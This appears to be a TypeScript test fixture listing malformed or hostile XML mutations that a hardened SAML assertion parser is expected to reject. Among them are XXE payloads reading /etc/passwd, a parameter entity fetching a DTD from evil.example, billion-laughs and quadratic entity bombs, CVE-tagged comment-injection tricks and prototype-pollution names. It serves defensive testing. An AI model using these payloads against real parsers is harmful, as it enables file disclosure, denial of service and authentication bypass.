/** Changes that make a good document malformed, or more than elements, attributes and text. */
export const REFUSED_XML: Readonly<Record<string, (xml: string) => string>> = {
  'a document type': (xml) => `<!DOCTYPE saml:Assertion>${xml}`,
  'a document type behind the declaration': (xml) =>
    `<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">${xml}`,
  'an internal entity': (xml) => `<!DOCTYPE x [<!ENTITY e "mallory">]>${xml.replace('>alice<', '>&e;<')}`,
  'an external entity': (xml) =>
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${xml.replace('>alice<', '>&e;<')}`,
  'a parameter entity': (xml) => `<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>${xml}`,
  'a billion laughs': (xml) => `${laughs()}${xml.replace('>alice<', '>&l9;<')}`,
  'a quadratic blow-up': (xml) =>
    `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(5000)}">]>${xml.replace('>alice<', `>${'&a;'.repeat(5000)}<`)}`,
  'an attribute that a document type adds': (xml) =>
    `<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID "_evil">]>${xml}`,
  'an undeclared entity': (xml) => xml.replace('>alice<', '>&nbsp;<'),
  'a bare ampersand': (xml) => xml.replace('>alice<', '>a & b<'),
  'a reference to no character': (xml) => xml.replace('>alice<', '>alice&#0;<'),
  'a reference to half a character': (xml) => xml.replace('>alice<', '>alice&#xD800;<'),
  'a reference beyond Unicode': (xml) => xml.replace('>alice<', '>alice&#x110000;<'),
  'a reference without end': (xml) => xml.replace('>alice<', '>&#65<'),
  'a comment in the subject (CVE-2017-11427)': (xml) => xml.replace('>alice<', '>alice<!-- -->.evil<'),
  'a comment in front': (xml) => `<!-- x -->${xml}`,
  'a comment behind': (xml) => `${xml}<!-- x -->`,
  'a comment in the digest (CVE-2025-29775)': (xml) =>
    xml.replace('<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->'),
  'a comment between elements': (xml) => xml.replace('<saml:Subject>', '<!-- --><saml:Subject>'),
  'a CDATA section': (xml) => xml.replace('>alice<', '><![CDATA[alice]]><'),
  'an end of CDATA': (xml) => xml.replace('>alice<', '>alice]]><'),
  'a processing instruction': (xml) => xml.replace('>alice<', '>alice<?x y?><'),
  'a style sheet': (xml) => `<?xml-stylesheet href="https://evil.example"?>${xml}`,
  'an XML declaration inside': (xml) => xml.replace('<saml:Subject>', '<?xml version="1.0"?><saml:Subject>'),
  'XML 1.1': (xml) => `<?xml version="1.1"?>${xml}`,
  'another encoding': (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  'a byte order mark': (xml) => `\ufeff${xml}`,
  'a NUL': (xml) => xml.replace('>alice<', '>alice\0<'),
  'a control character': (xml) => xml.replace('>alice<', '>alice\u0008<'),
  'no character at all': (xml) => xml.replace('>alice<', '>alice\uffff<'),
  'text in front': (xml) => `x${xml}`,
  'text behind': (xml) => `${xml}x`,
  'two roots': (xml) => xml + xml,
  nothing: () => '',
  'white space only': () => ' \n',
  'no XML': () => '{"iss":"https://idp.example"}',
  'no end': (xml) => xml.slice(0, -'</saml:Assertion>'.length),
  'an end too many': (xml) => `${xml}</saml:Assertion>`,
  'ends in the wrong order': (xml) => xml.replace('</saml:NameID>', '</saml:Subject>'),
  'an end in another case': (xml) => xml.replace('</saml:NameID>', '</saml:nameid>'),
  'an attribute twice': (xml) => xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"'),
  'an attribute twice under two prefixes': (xml) =>
    xml.replace('Version="2.0"', 'xmlns:a="u" xmlns:b="u" a:x="1" b:x="2" Version="2.0"'),
  'an attribute without quotation marks': (xml) => xml.replace('Version="2.0"', 'Version=2.0'),
  'an attribute without value': (xml) => xml.replace('Version="2.0"', 'Version="2.0" x'),
  'attributes without space between them': (xml) => xml.replace('Version="2.0"', 'Version="2.0"x="1"'),
  'a less-than sign in an attribute': (xml) => xml.replace('Version="2.0"', 'Version="2.0" x="<"'),
  'an undeclared prefix': (xml) => xml.replace('<saml:Subject>', '<evil:x></evil:x><saml:Subject>'),
  'an undeclared prefix of an attribute': (xml) => xml.replace('Version="2.0"', 'e:x="" Version="2.0"'),
  'a namespace taken back': (xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:saml="">'),
  'the prefix xml for something else': (xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:xml="u">'),
  'the prefix xmlns': (xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:xmlns="u">'),
  'a namespace of declarations': (xml) =>
    xml.replace('<saml:Subject>', '<saml:Subject xmlns:a="http://www.w3.org/2000/xmlns/">'),
  'two colons': (xml) => xml.replace('<saml:Subject>', '<saml:a:b></saml:a:b><saml:Subject>'),
  'a name that begins with a digit': (xml) =>
    xml.replace('<saml:Subject>', '<saml:1></saml:1><saml:Subject>'),
  'space in an end tag, which xmldom reads in another way': (xml) =>
    xml.replace('</saml:NameID>', '</saml:NameID >'),
  'an attribute that every object has': (xml) =>
    xml.replace('Version="2.0"', 'hasOwnProperty="" Version="2.0" x=""'),
  'an element that every object has': (xml) =>
    xml.replace('<saml:Subject>', '<__proto__></__proto__><saml:Subject>'),
  'a prefix that every object has': (xml) =>
    xml.replace('<saml:Subject>', '<saml:Subject xmlns:constructor="u" constructor:x="1">'),
  'space before a name': (xml) => xml.replace('<saml:Subject>', '< saml:Subject>'),
  'more levels than are read': (xml) =>
    xml.replace('<saml:Subject>', `${'<saml:x>'.repeat(200)}${'</saml:x>'.repeat(200)}<saml:Subject>`),
  'more elements than are read': (xml) =>
    xml.replace('<saml:Subject>', `${'<saml:x/>'.repeat(2001)}<saml:Subject>`),
  'more attributes than are read': (xml) =>
    xml.replace(
      'Version="2.0"',
      `${Array.from({ length: 65 }, (_, at) => `a${at}=""`).join(' ')} Version="2.0"`,
    ),
  'a long run of spaces in a tag': (xml) =>
    xml.replace('Version="2.0"', `Version="2.0"${' '.repeat(20_000)}!`),
};

function laughs(): string {
  const lines = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
  return `<!DOCTYPE x [<!ENTITY l0 "lol">${lines.join('')}]>`;
}
